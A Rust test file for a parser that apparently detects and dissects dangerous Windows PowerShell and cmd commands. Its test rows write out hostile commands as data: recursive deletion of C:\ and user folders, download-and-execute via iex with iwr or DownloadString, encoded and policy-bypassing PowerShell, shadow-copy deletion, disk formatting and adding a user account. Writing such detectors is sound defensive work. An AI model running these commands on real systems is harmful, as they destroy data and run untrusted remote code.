use super::{looks_like_it, names, read};
use crate::{Note, Part, Runs, Touch};

fn shown(part: &Part) -> String {
    let words: Vec<&str> = part.words.iter().map(|word| word.shown()).collect();
    let effects = part.effects.iter().map(|effect| {
        let sign = if effect.touch == Touch::Append { ">>" } else { ">" };
        format!(" {sign}{}", effect.target.shown())
    });
    let runs = match &part.runs {
        Runs::Unknown(from) => format!(" runs{from:?}"),
        Runs::File(file) => format!(" runs {}", file.shown()),
        Runs::Read => String::new(),
    };
    let privileged = if part.is(Note::Privileged) { "!" } else { "" };
    format!("{privileged}{}{}{runs}", words.join(" "), effects.collect::<String>())
}

fn check(text: &str, expected: &str) {
    let parts: Vec<String> = read(text).iter().map(shown).collect();
    assert_eq!(parts.join(" ; "), expected, "{text}");
}

#[test]
fn the_names_are_read() {
    assert!(names::parsed().is_ok());
}

#[test]
fn commands_are_found() {
    let rows = [
        ("Remove-Item -Recurse -Force C:\\Users", "remove-item -Recurse -Force C:\\Users"),
        ("rm -r a,b; DEL /s \"c d\"", "remove-item -r a b ; remove-item /s c d"),
        ("Get-ChildItem | Remove-Item -Force", "get-childitem ; remove-item -Force"),
        ("gci | % { ri $_ }", "get-childitem ; remove-item $_ ; foreach-object { ri $_ }"),
        ("& { rd x } && echo a > b.txt", "remove-item x ; { rd x } ; write-output a >b.txt"),
        ("R`em`ove-It^em x", "remove-item x"),
        ("iex (iwr http://x)", "invoke-webrequest http://x ; invoke-expression (iwr http://x) runs[0]"),
        ("irm x | iex", "invoke-restmethod x ; invoke-expression runs[0]"),
        ("iex 'rd /s c:\\'", "remove-item /s c:\\ ; invoke-expression rd /s c:\\"),
        ("cmd /c \"del /q x & rd y\"", "remove-item /q x ; remove-item y ; cmd /c del /q x & rd y"),
        ("powershell -NoP -c \"rm x\"", "remove-item x ; powershell -NoP -c rm x"),
        ("powershell.exe -ep bypass -File a.ps1", "powershell -ep bypass -File a.ps1 runs a.ps1"),
        ("pwsh -enc cgBtACAAeAA=", "remove-item x ; pwsh -enc cgBtACAAeAA="),
        ("pwsh -e ???", "pwsh -e ??? runs[]"),
        (
            "Start-Process cmd -ArgumentList '/c','del x' -Verb RunAs",
            "!remove-item x ; !cmd /c del x ; !start-process cmd -ArgumentList /c del x -Verb RunAs",
        ),
        ("$x = Get-Content a; \"$(del b)\"", "get-content a ; remove-item b ; $(del b)"),
        ("[System.IO.Directory]::Delete('C:\\', $true)", "[io.directory]::delete C:\\ $true ; (...)"),
        (
            "(New-Object Net.WebClient).DownloadString('http://x') | iex",
            "new-object Net.WebClient ; .downloadstring http://x ; (New-Object Net.WebClient) (...) ; invoke-expression runs[0, 1, 2]",
        ),
        ("if exist x del x", "remove-item x ; if exist x del x"),
        ("for %i in (*.txt) do del %i", "*.txt ; remove-item %i ; for %i in (*.txt) do del %i"),
        ("del %TEMP%\\x 2>&1 >> log # rd y", "remove-item %TEMP%\\x 2 >>log"),
        ("@echo off", "write-output off"),
    ];
    for (text, expected) in rows {
        check(text, expected);
    }
}

#[test]
fn windows_is_recognised() {
    let rows = [
        "Remove-Item -Recurse x",
        "remove-item x",
        "ls | Where-Object Name",
        "powershell -c ls",
        "C:\\Windows\\System32\\cmd.exe /c dir",
        "del /s /q *",
        "rd /s x",
        "format c: /q",
        "echo %USERPROFILE%",
        "dir $env:TEMP",
        "iex (New-Object Net.WebClient)",
        "type C:\\x.txt",
        "reg delete HKLM\\x",
        "echo a & vssadmin delete shadows",
        "[System.IO.File]::Delete('x')",
        "iwr http://x | iex",
        "net user a b /add",
        "shutdown /s /t 0",
    ];
    for text in rows {
        assert!(looks_like_it(text), "{text}");
    }
}

#[test]
fn unix_is_not_taken_for_it() {
    let ordinary = include_str!("../second/ordinary.txt").lines();
    let more = [
        "apt-get install -y x",
        "update-alternatives --config editor",
        "add-apt-repository ppa:x",
        "start-stop-daemon --stop",
        "date +%H%M%S",
        "printf '%s%%' 3",
        "iex -S mix",
        "grep '[a-z]:\\d' x",
        "docker run -v c:/x y",
        "sed 's/a:\\(b\\)/c/' x",
        "git commit -m 'Remove-Item is gone'",
        "format --check .",
        "type ls",
        "sc -x",
        "rm -rf target/",
        "rmdir /tmp/x",
        "start server",
        "find . -name '*.exe'",
        "env X=1 cmdline",
    ];
    for text in ordinary.chain(more) {
        assert!(!looks_like_it(text), "{text}");
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(text in proptest::prelude::any::<String>()) {
        looks_like_it(&text);
        read(&text);
    }

    #[test]
    fn any_pieces_are_read(pieces in proptest::collection::vec(proptest::sample::select(PIECES.split('·').collect::<Vec<_>>()), 0..40)) {
        let text = pieces.concat();
        looks_like_it(&text);
        read(&text);
    }
}

const PIECES: &str = "rm·iex·cmd·/c·powershell·-c·-enc·start-process·if·for·do·exist·(·)·{·}·'·\"·`·^·$·$(·%·;·|·&·,·=·>·>>·[a]::b·.c· · · ·\n·x·@·#";

#[test]
fn hostile_text_ends() {
    for piece in [
        "(",
        "{",
        "$(",
        "\"",
        "'",
        "`",
        "iex ",
        "cmd /c ",
        "a|",
        "a;",
        "\"$(",
        "[a]::b(",
        ".a(",
        "%",
        "if ",
        ">",
        "powershell -c ",
    ] {
        read(&piece.repeat(10_000 / piece.len()));
    }
}
